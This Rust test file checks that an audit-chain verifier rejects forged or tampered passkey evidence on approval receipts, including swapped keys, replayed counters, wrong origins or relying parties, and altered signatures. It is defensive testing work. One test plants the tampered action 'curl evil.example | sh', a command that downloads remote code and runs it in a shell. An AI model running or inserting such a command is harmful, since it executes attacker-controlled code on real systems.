//! Passkey evidence that does not hold, though every hash and link does: what one who rewrites
//! the chain, or replays or forges an approval, would leave.

use super::authenticator::{self, Alg, ORIGIN, Passkey, RP_ID, UP, UV};
use super::{approval, fails, good, rehash};
use crate::audit::*;
use clawgate_proto::evidence::receipt::kind;
use serde_json::json;

#[test]
fn a_replaced_public_key_fails_the_signatures() {
    let (mut b, keys) = good();
    let mallory = Passkey::new(Alg::Es256, 66).with_id(&keys[0].id);
    b.receipts[1].evidence = Some(mallory.registration(ORIGIN, RP_ID));
    rehash(&mut b.receipts, 1);
    fails(
        &b.chain(),
        &Options::default(),
        Category::Evidence,
        5,
        "does not verify with the key registered at receipt 2",
    );
}

#[test]
fn changed_signed_content_fails_its_challenge_though_every_hash_is_recomputed() {
    let (mut b, _) = good();
    b.receipts[7].content["signed"]["action"] = json!("curl evil.example | sh");
    rehash(&mut b.receipts, 7);
    let e = fails(&b.chain(), &Options::default(), Category::Evidence, 8, "another challenge");
    assert_eq!(e.category.exit_code(), crate::EXIT_EVIDENCE);
    let (mut b, _) = good();
    b.receipts[7].content["nonce"] = json!(authenticator::b64(&[0; 16]));
    rehash(&mut b.receipts, 7);
    fails(&b.chain(), &Options::default(), Category::Evidence, 8, "another challenge");
}

#[test]
fn a_forged_approval_without_evidence_is_counted_as_the_servers_word_only() {
    let (mut b, _) = good();
    let (content, _) = approval("req_forged", 99);
    b.push(kind::REQUEST_APPROVED, content, None);
    let summary = verify_chain(&b.chain(), &Options::default()).expect("holds as a link");
    assert_eq!(summary.passkey_checked.get("request.approved"), Some(&4));
    assert_eq!(summary.server_only.get("request.approved"), Some(&1));
    assert_eq!((summary.passkey_checked_total(), summary.server_only_total()), (7, 4));
    assert!(summary_text(&summary).contains("request.approved 1"));
}

#[test]
fn a_counter_that_goes_back_does_not_hold() {
    let (mut b, keys) = good();
    let last = keys[0].counter;
    b.approve_with("req_6", |c| keys[0].assert_with_counter(c, ORIGIN, RP_ID, UP | UV, last));
    fails(
        &b.chain(),
        &Options::default(),
        Category::Evidence,
        11,
        &format!("counter is {last} after {last}"),
    );
}

#[test]
fn a_signature_without_user_verification_does_not_hold() {
    let (mut b, mut keys) = good();
    b.approve_with("req_6", |c| keys[2].assert(c, ORIGIN, RP_ID, UP));
    fails(&b.chain(), &Options::default(), Category::Evidence, 11, "(UV) is not set");
}

#[test]
fn another_origin_does_not_hold() {
    let (mut b, mut keys) = good();
    b.approve_with("req_6", |c| keys[0].assert(c, "https://evil.example", RP_ID, UP | UV));
    fails(
        &b.chain(),
        &Options::default(),
        Category::Evidence,
        11,
        "used at origin https://evil.example, not https://gate.example.com (its registration at receipt 2)",
    );
    // Pinned: the registrations are held to it too.
    let (b, _) = good();
    let pinned = Options { origin: Some("https://other.example".into()), ..Options::default() };
    fails(
        &b.chain(),
        &pinned,
        Category::Evidence,
        2,
        "registered at origin https://gate.example.com, not https://other.example",
    );
}

#[test]
fn another_rp_id_does_not_hold() {
    let (mut b, mut keys) = good();
    b.approve_with("req_6", |c| keys[2].assert(c, ORIGIN, "evil.example", UP | UV));
    fails(
        &b.chain(),
        &Options::default(),
        Category::Evidence,
        11,
        "another relying party than the one of its registration at receipt 4",
    );
    let (b, _) = good();
    let pinned = Options { rp_id: Some("other.example".into()), ..Options::default() };
    fails(
        &b.chain(),
        &pinned,
        Category::Evidence,
        2,
        "registered for another relying party than other.example",
    );
}

#[test]
fn a_passkey_deleted_or_never_registered_signs_nothing() {
    let (mut b, mut keys) = good();
    b.approve_with("req_6", |c| keys[1].assert(c, ORIGIN, RP_ID, UP | UV));
    fails(
        &b.chain(),
        &Options::default(),
        Category::Evidence,
        11,
        "after its passkey was deleted at receipt 10",
    );
    let (mut b, _) = good();
    let mut stranger = Passkey::new(Alg::Es256, 77);
    b.approve(&mut stranger, "req_6");
    let id = chain::prefix(&stranger.id);
    fails(
        &b.chain(),
        &Options::default(),
        Category::Evidence,
        11,
        &format!("signed by credential {id} which this chain never registered"),
    );
}

#[test]
fn registration_evidence_must_name_the_contents_credential() {
    let (mut b, keys) = good();
    b.receipts[1].content["credentialId"] = json!(keys[1].id_b64());
    rehash(&mut b.receipts, 1);
    fails(&b.chain(), &Options::default(), Category::Evidence, 2, "is not the content's credentialId");
    let (mut b, _) = good();
    b.receipts[4].evidence.as_mut().expect("assertion")["signature"] = json!("not base64!");
    rehash(&mut b.receipts, 4);
    fails(&b.chain(), &Options::default(), Category::Evidence, 5, "signature is not base64url");
}

#[test]
fn a_changed_signature_does_not_verify_whatever_the_algorithm() {
    for (index, registered) in [(4, 2), (6, 3), (7, 4)] {
        let (mut b, _) = good();
        let evidence = b.receipts[index].evidence.as_mut().expect("assertion");
        let mut signature =
            webauthn::b64_decode(evidence["signature"].as_str().expect("text")).expect("base64url");
        let last = signature.len() - 2;
        signature[last] ^= 1;
        evidence["signature"] = json!(authenticator::b64(&signature));
        rehash(&mut b.receipts, index);
        let words = format!("the signature does not verify with the key registered at receipt {registered}");
        fails(&b.chain(), &Options::default(), Category::Evidence, index as u64 + 1, &words);
    }
}

/// A decision other than an approval, signed by `passkey`: its receipt's content and evidence.
fn signed_decision(
    passkey: &mut Passkey,
    signed: serde_json::Value,
    nonce: u8,
) -> (serde_json::Value, serde_json::Value) {
    let nonce = [nonce; 16];
    let challenge = clawgate_proto::evidence::decision_challenge(&signed, &nonce);
    let evidence = passkey.assert(&challenge, ORIGIN, RP_ID, UP | UV);
    (json!({"signed": signed, "nonce": authenticator::b64(&nonce)}), evidence)
}

#[test]
fn signed_stops_and_rule_sets_hold_and_count_as_the_persons() {
    let (mut b, mut keys) = good();
    let stop = json!({"decision": "stop", "account": super::ACCOUNT, "at": "2027-01-15T08:00:00.000Z"});
    let (content, evidence) = signed_decision(&mut keys[0], stop, 40);
    b.push(kind::AGENTS_STOPPED, content, Some(evidence));
    let rules = json!({"decision": "rules", "version": 2, "rulesHash": "ab".repeat(32)});
    let (content, evidence) = signed_decision(&mut keys[2], rules, 41);
    b.push(kind::RULES_CHANGED, content, Some(evidence));
    let summary = verify_chain(&b.chain(), &Options::default()).expect("the chain holds");
    assert_eq!(summary.passkey_checked.get("agents.stopped"), Some(&1), "{summary:?}");
    assert_eq!(summary.passkey_checked.get("rules.changed"), Some(&1), "{summary:?}");
    assert_eq!(summary.credentials.iter().map(|c| c.signed).collect::<Vec<_>>(), [3, 1, 2]);
}

#[test]
fn a_signed_stop_of_another_account_or_a_decision_of_another_kind_does_not_hold() {
    let (mut b, mut keys) = good();
    let stop = json!({"decision": "stop", "account": "usr_mallory", "at": "2027-01-15T08:00:00.000Z"});
    let (content, evidence) = signed_decision(&mut keys[0], stop, 40);
    let seq = b.push(kind::AGENTS_STOPPED, content, Some(evidence));
    fails(&b.chain(), &Options::default(), Category::Evidence, seq, "another account's agents");

    let (mut b, mut keys) = good();
    let rules = json!({"decision": "rules", "version": 2, "rulesHash": "ab".repeat(32)});
    let (content, evidence) = signed_decision(&mut keys[0], rules, 41);
    let seq = b.push(kind::REQUEST_DENIED, content, Some(evidence));
    fails(
        &b.chain(),
        &Options::default(),
        Category::Evidence,
        seq,
        "another kind (\"rules\") than the receipt's (\"deny\")",
    );
}
